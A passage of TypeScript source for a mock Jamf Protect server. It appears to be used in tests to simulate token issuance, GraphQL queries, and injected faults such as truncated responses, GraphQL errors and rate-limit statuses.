    if (typeof clientId !== 'string' || typeof password !== 'string' || clientId === '' || password === '') {
      return [400, JSON.stringify({ error: 'invalid_request', message: 'client_id and password are required' })];
    }
    if (clientId !== this.#clientId || password !== this.#password) return [401, INVALID_CLIENT];
    return [200, JSON.stringify({ access_token: this.#issueToken(), expires_in: this.#tokenLifetimeSeconds, token_type: 'Bearer' })];
  }

  async #graphql(req: IncomingMessage, fields: Record<string, unknown> | undefined): Promise<[number, string]> {
    const token = req.headers.authorization;
    if (typeof token !== 'string' || !this.#tokenValid(token)) return [401, UNAUTHORIZED];
    if (this.#forbidden) return [403, forbiddenBody(rootField(fields?.query, fields?.operationName))];
    if (!fields || typeof fields.query !== 'string') return [400, MALFORMED_REQUEST];
    const { query, variables, operationName } = fields;
    if (variables != null && (typeof variables !== 'object' || Array.isArray(variables))) return [400, MALFORMED_REQUEST];
    if (operationName != null && typeof operationName !== 'string') return [400, MALFORMED_REQUEST];
    const result: ExecutionResult = await graphql({
      schema: this.#schema,
      source: query,
      rootValue: this.#rootValue,
      variableValues: (variables ?? undefined) as Record<string, unknown> | undefined,
      operationName: operationName ?? undefined,
    });
    const out: Record<string, unknown> = { data: result.data ?? null };
    if (result.errors && result.errors.length > 0) out.errors = result.errors.map((e) => appSyncError(e, this.#wording));
    return [200, JSON.stringify(out)];
  }

  #answerFault(req: IncomingMessage, res: ServerResponse, entry: MockJamfProtectRequest, fault: MockJamfProtectFault, fields: Record<string, unknown> | undefined): void {
    if ('resetConnection' in fault) {
      this.resetConnection(req, entry);
      return;
    }
    const field = rootField(fields?.query, fields?.operationName);
    if ('malformed' in fault) {
      const full =
        entry.route === 'token'
          ? JSON.stringify({ access_token: randomBytes(48).toString('base64url'), expires_in: this.#tokenLifetimeSeconds, token_type: 'Bearer' })
          : JSON.stringify({ data: { [field]: { items: this.#alerts.slice(0, 2).map((a) => this.#alertObject(a)), pageInfo: { next: null, total: this.#alerts.length } } } });
      return this.send(res, entry, 200, full.slice(0, Math.max(1, Math.floor(full.length / 2))));
    }
    if ('graphqlError' in fault) {
      const body = { data: { [field]: null }, errors: [{ path: [field], data: null, errorType: fault.errorType ?? 'InternalFailure', errorInfo: null, locations: [{ line: 1, column: 1, sourceName: null }], message: fault.graphqlError }] };
      return this.send(res, entry, 200, JSON.stringify(body));
    }
    const { status } = fault;
    const headers: Record<string, string> = {};
    if (fault.retryAfterSeconds !== undefined) headers['retry-after'] = String(fault.retryAfterSeconds);
    if (fault.contentType !== undefined) headers['content-type'] = fault.contentType;
    let body = fault.body;
    if (body === undefined) {
      if (status === 429) body = message('Too Many Requests');
      else if (status === 401) body = entry.route === 'graphql' ? UNAUTHORIZED : INVALID_CLIENT;
      else if (status === 403) body = entry.route === 'graphql' ? forbiddenBody(field) : message('Forbidden');
      else if (status === 400) body = entry.route === 'graphql' ? MALFORMED_REQUEST : JSON.stringify({ error: 'invalid_request', message: 'Bad Request' });
      else body = message(STATUS_CODES[status] ?? 'Error');
    } else if (fault.contentType === undefined && body.trimStart().startsWith('<')) {
      headers['content-type'] = 'text/html; charset=utf-8';
    }
    this.send(res, entry, status, body, headers);
  }
}
